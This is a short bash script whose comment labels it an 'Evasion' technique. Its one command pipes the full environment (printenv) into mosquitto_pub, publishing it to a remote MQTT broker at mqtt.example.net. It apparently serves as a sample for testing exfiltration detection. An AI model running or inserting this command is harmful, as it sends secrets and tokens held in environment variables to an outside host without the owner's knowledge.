#!/bin/bash
# Evasion: mosquitto_pub -s publishes stdin: the environment goes to a remote broker
set -u
printenv | mosquitto_pub -h mqtt.example.net -t devices/diag -s
